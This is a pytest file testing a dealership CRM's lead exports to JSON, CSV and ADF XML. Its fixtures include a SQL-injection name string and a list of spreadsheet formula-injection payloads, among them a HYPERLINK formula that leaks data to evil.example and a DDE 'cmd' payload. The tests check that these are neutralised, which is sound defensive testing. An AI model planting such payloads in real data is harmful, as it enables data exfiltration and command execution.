"""Lead exports: the contract's JSON fields exactly, CSV, and ADF 1.0 checked against its schema."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from lxml import etree

from crm_bridge import bookings, conversations, exports, verification
from crm_bridge.catalog import load_dealer_data_into
from crm_bridge.db import SessionFactory, transaction
from crm_bridge.dealer_data import load_dealer_data
from crm_bridge.leads import LeadUpdate, record_lead

SHANGHAI = ZoneInfo("Asia/Shanghai")
T0 = datetime(2026, 11, 22, 4, 0, tzinfo=UTC)
HOSTILE = "<b>李</b>'); DROP TABLE leads;--&"


@pytest.fixture
def db(sessions: SessionFactory) -> SessionFactory:
    with transaction(sessions) as session:
        load_dealer_data_into(session, load_dealer_data())
        for sender, update, at in (
            ("s1", LeadUpdate(consent=True, channel="rest", language="zh", name="张伟",
                              phone="+8613800138000", model_interest=["Q5L", "A6L"],
                              budget_cny_max=400000, purchase_timeline_days=14, payment="loan",
                              trade_in=True, trade_in_vehicle="2018年的凯美瑞"), T0),
            ("s2", LeadUpdate(consent=True, channel="web", language="en", name=HOSTILE,
                              email="a@example.com"), T0 + timedelta(hours=1)),
        ):  # fmt: skip
            conversations.start_conversation(session, sender, at, update.channel)
            record_lead(session, sender, update, "conversation:test", at)
    return sessions


def test_json_has_exactly_the_contract_fields(db: SessionFactory) -> None:
    with db() as session:
        records = json.loads(exports.to_json(exports.lead_records(session, SHANGHAI)))
    assert records[0] == {
        "id": records[0]["id"],
        "created_at": "2026-11-22T12:00:00+08:00",
        "updated_at": "2026-11-22T12:00:00+08:00",
        "channel": "rest",
        "language": "zh",
        "name": "张伟",
        "phone": "+8613800138000",
        "email": None,
        "model_interest": ["Q5L", "A6L"],
        "budget_cny_max": 400000,
        "purchase_timeline_days": 14,
        "level": "A",
        "payment": "loan",
        "trade_in": True,
        "trade_in_vehicle": "2018年的凯美瑞",
        "status": "qualified",
        "consultant": None,
        "consent": True,
    }
    assert list(records[1]) == list(exports.LEAD_FIELDS)
    assert records[1]["name"] == HOSTILE  # stored and exported verbatim in JSON
    assert (records[1]["status"], records[1]["level"]) == ("new", "C")


def test_csv_round_trips(db: SessionFactory) -> None:
    with db() as session:
        text = exports.to_csv(exports.lead_records(session, SHANGHAI))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(exports.LEAD_FIELDS)
    assert rows[0]["model_interest"] == "Q5L;A6L"
    assert rows[0]["trade_in"] == "true"
    assert rows[1]["name"] == HOSTILE
    assert rows[1]["budget_cny_max"] == ""
    assert rows[0]["phone"] == "'+8613800138000"  # text, not the number 8.6e12


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
    sessions: SessionFactory, formula: str
) -> None:
    with transaction(sessions) as session:
        update = LeadUpdate(consent=True, channel="web", language="zh", name=formula,
                            trade_in=True, trade_in_vehicle=formula)  # fmt: skip
        conversations.start_conversation(session, "s9", T0, "web")
        record_lead(session, "s9", update, "conversation:test", T0)
    with sessions() as session:
        text = exports.to_csv(exports.lead_records(session, SHANGHAI))
    (row,) = csv.DictReader(io.StringIO(text))
    for name in ("name", "trade_in_vehicle"):
        assert row[name] == "'" + formula  # the whole text kept, shown as text
        assert not row[name].startswith(exports.FORMULA_STARTS)
    with sessions() as session:  # JSON is data, not a spreadsheet: kept as it is
        records = json.loads(exports.to_json(exports.lead_records(session, SHANGHAI)))
    assert records[0]["name"] == formula


def test_adf_follows_the_schema_and_escapes_customer_text(db: SessionFactory) -> None:
    with db() as session:
        document = exports.to_adf(session, SHANGHAI)
    assert document.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<?adf version="1.0"?>\n')
    exports.validate_adf(document)
    root = etree.fromstring(document)
    first, second = root.findall("prospect")
    assert first.findtext("requestdate") == "2026-11-22T12:00:00+08:00"
    vehicles = first.findall("vehicle")
    assert [(v.get("interest"), v.get("status"), v.findtext("model")) for v in vehicles] == [
        ("buy", "new", "Q5L"), ("buy", "new", "A6L"), ("trade-in", "used", ""),
    ]  # fmt: skip
    assert vehicles[0].findtext("make") == "Audi"
    assert vehicles[0].findtext("year") == "2026"
    assert vehicles[2].findtext("comments") == "2018年的凯美瑞"
    contact = first.find("customer/contact")
    assert contact is not None
    assert [(n.get("part"), n.text) for n in contact.findall("name")] == [
        ("first", "伟"), ("last", "张"),
    ]  # fmt: skip
    assert contact.findtext("phone") == "+8613800138000"
    assert first.findtext("customer/timeframe/latestdate") == "2026-12-06"
    assert first.findtext("vendor/vendorname") == "Xingchen Audi"
    assert first.findtext("provider/name") == "Dealer Assistant"
    # The hostile name is text, not markup.
    assert b"<b>" not in document
    assert b"&lt;b&gt;" in document
    names = second.findall("customer/contact/name")
    assert "".join(n.text or "" for n in names).replace(" ", "") == HOSTILE.replace(" ", "")


def test_adf_lists_booked_test_drives(db: SessionFactory) -> None:
    now = T0 + timedelta(hours=2)
    with transaction(db) as session:
        for hour in (10, 11):
            booked = bookings.book(
                session, model_code="A6L", start=datetime(2026, 11, 23, hour, tzinfo=SHANGHAI),
                zone=SHANGHAI, now=now, source="cli", sender_id="s1", channel="rest",
                language="zh", customer_name="张伟", phone="+8613800138000",
            )  # fmt: skip
        bookings.cancel(session, booked.id, now=now, source="cli")  # the 11:00 one
        document = exports.to_adf(session, SHANGHAI)
    exports.validate_adf(document)
    first = etree.fromstring(document).findall("prospect")[0]
    vehicles = [(v.get("interest"), v.findtext("model")) for v in first.findall("vehicle")]
    assert vehicles == [
        ("buy", "Q5L"), ("buy", "A6L"), ("test-drive", "A6L"), ("trade-in", ""),
    ]  # fmt: skip
    test_drive = first.findall("vehicle")[2]
    assert (test_drive.get("status"), test_drive.findtext("make")) == ("new", "Audi")
    assert test_drive.findtext("comments") == (
        "Test drive 2026-11-23T10:00:00+08:00 to 2026-11-23T11:00:00+08:00 (booked)"
    )
    assert first.findtext("customer/comments").endswith("consultant: 王磊")
    second = etree.fromstring(document).findall("prospect")[1]
    assert [v.get("interest") for v in second.findall("vehicle")] == ["buy"]


def test_adf_tells_the_consultant_what_to_follow_up(db: SessionFactory) -> None:
    """A chat that gave the customer's number without proving it, and a request waiting for a
    call, reach the consultant with the lead (the customer's details stay as they were)."""
    later = T0 + timedelta(hours=1)
    with transaction(db) as session:
        conversations.start_conversation(session, "tg-7", later, "telegram")
        update = LeadUpdate(consent=True, channel="telegram", name="冒充者", phone="+8613800138000")
        record_lead(session, "tg-7", update, "conversation:telegram", later)
        verification.hand_to_person(session, "+8613800138000", "cancel", "conversation:rest", later)
        document = exports.to_adf(session, SHANGHAI)
    exports.validate_adf(document)
    first = etree.fromstring(document).findall("prospect")[0]
    names = {n.get("part"): n.text for n in first.findall("customer/contact/name")}
    assert names == {"first": "伟", "last": "张"}
    assert first.findtext("customer/comments").endswith(
        "follow up: unverified contact via telegram, confirm by phone: cancel"
    )


def test_schema_rejects_what_adf_forbids() -> None:
    bad = b"<adf><prospect><requestdate>yesterday</requestdate></prospect></adf>"
    with pytest.raises(etree.DocumentInvalid):
        exports.validate_adf(bad)


@pytest.mark.parametrize(
    ("name", "parts"),
    [
        ("张伟", [("first", "伟"), ("last", "张")]),
        ("欧阳菲菲", [("first", "菲菲"), ("last", "欧阳")]),
        ("David Chen", [("first", "David"), ("last", "Chen")]),
        ("王女士", [("first", "女士"), ("last", "王")]),
        ("Emily", [("full", "Emily")]),
        ("Mary Ann Lee", [("first", "Mary"), ("middle", "Ann"), ("last", "Lee")]),
    ],
)
def test_name_parts(name: str, parts: list[tuple[str, str]]) -> None:
    assert exports.name_parts(name) == parts


def test_cli_prints_one_json_array(tmp_path: Path, db: SessionFactory) -> None:
    url = str(db.kw["bind"].url.render_as_string(hide_password=False))
    cli = str(Path(sys.executable).parent / "dealer-assistant")
    env = {**os.environ, "DATABASE_URL": url, "VAR_DIR": str(tmp_path)}
    for fmt in ("json", "csv", "adf"):
        result = subprocess.run(
            [cli, "leads", "export", "--format", fmt], env=env, capture_output=True, timeout=60
        )
        assert result.returncode == 0, result.stderr
        if fmt == "json":
            assert len(json.loads(result.stdout)) == 2
        elif fmt == "adf":
            exports.validate_adf(result.stdout)
        else:
            assert result.stdout.decode().startswith("id,created_at,")
